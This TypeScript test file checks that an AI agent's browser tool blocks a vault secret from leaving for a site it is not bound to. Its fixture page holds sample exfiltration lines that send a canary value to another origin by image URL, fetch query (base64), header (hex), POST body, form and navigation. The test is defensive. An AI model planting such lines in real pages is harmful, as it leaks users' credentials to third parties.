/**
 * The outbound secret check in real Chromium (issue 11, point 3): a page on the secret's bound site
 * holds the value (the site echoed it) and tries to send it to another, reachable site by image,
 * fetch (URL, header, body — plain and encoded), form post and navigation. The other site must never
 * receive it; a request to it without the value still goes through.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { secretsIn } from "../../../core/log/redaction.js";
import { browserRig, type BrowserRig } from "./helpers.js";
import { TestSite } from "./pages.js";

const VALUE = "brwsr-CANARY/77+q";

describe("browser: a vault value never leaves for a site it is not bound to", () => {
  let bound: TestSite;
  let other: TestSite;
  let rig: BrowserRig;
  const refused: string[] = [];

  beforeAll(async () => {
    bound = await TestSite.start();
    other = await TestSite.start();
    other.page("/ok.png", "x").page("/img.png", "x").page("/fetch", "x").page("/post", "posted").page("/nav", "<h1>landed</h1>");
    const B = other.origin;
    const enc = encodeURIComponent(VALUE);
    const b64 = Buffer.from(VALUE).toString("base64");
    bound.page(
      "/echo",
      `<h1>Your key is ${VALUE}</h1>
      <img src="${B}/ok.png?harmless=1">
      <img src="${B}/img.png?k=${enc}">
      <form id="f" method="post" action="${B}/post"><input name="k" value="${VALUE}"></form>
      <script>
        fetch("${B}/fetch?k=${b64}").catch(() => {});
        fetch("${B}/fetch", { headers: { "x-k": "${Buffer.from(VALUE).toString("hex")}" } }).catch(() => {});
        fetch("${B}/fetch", { method: "POST", body: JSON.stringify({ k: ${JSON.stringify(VALUE)} }) }).catch(() => {});
        setTimeout(() => { location.href = "${B}/nav?k=${enc}"; }, 300);
      </script>`,
    );
    bound.page("/plain", "<h1>plain</h1>");
    const boundOrigin = bound.origin;
    rig = await browserRig({
      allowed: [bound.hostPort, other.hostPort],
      secretCheck: (texts, origin) => {
        const names = origin === boundOrigin ? [] : secretsIn(texts.join("\n"), [{ name: "KEY", value: VALUE }]).map((s) => s.name!);
        if (names.length > 0) refused.push(origin);
        return names;
      },
    });
  }, 60_000);

  afterAll(async () => {
    await rig?.close();
    await bound?.close();
    await other?.close();
  });

  it("image, fetch (URL, header, body), navigation: refused when they carry the value; harmless requests pass", async () => {
    const result = await rig.run("browser_open", { url: `${bound.origin}/echo` });
    expect(result.ok).toBe(true);
    // Wait until the page's attempts were made (the check saw them) and the harmless image arrived.
    for (let i = 0; i < 40 && (refused.length < 4 || !other.hits.some((h) => h.url.startsWith("/ok.png"))); i++) await new Promise((r) => setTimeout(r, 250));
    await new Promise((r) => setTimeout(r, 500));
    // Image, fetch by URL, header and body, navigation: each refused on its way to the other site.
    expect(refused.length).toBeGreaterThanOrEqual(4);
    expect(new Set(refused)).toEqual(new Set([other.origin]));
    // The refusals are told to the model with the next tool result (origin only).
    const next = await rig.run("browser_open", { url: `${bound.origin}/plain` });
    expect(JSON.stringify([result, next])).toMatch(/secret_unbound_destination/);
    // The harmless image reached the other site; nothing that carries the value did.
    expect(other.hits.some((h) => h.url.startsWith("/ok.png"))).toBe(true);
    for (const hit of other.hits) expect(secretsIn(`${hit.url}\n${JSON.stringify(hit.headers)}\n${hit.body}`, [{ value: VALUE }]), hit.url).toEqual([]);
    expect(other.hits.map((h) => h.url.split("?")[0])).not.toContain("/nav");
  });
});
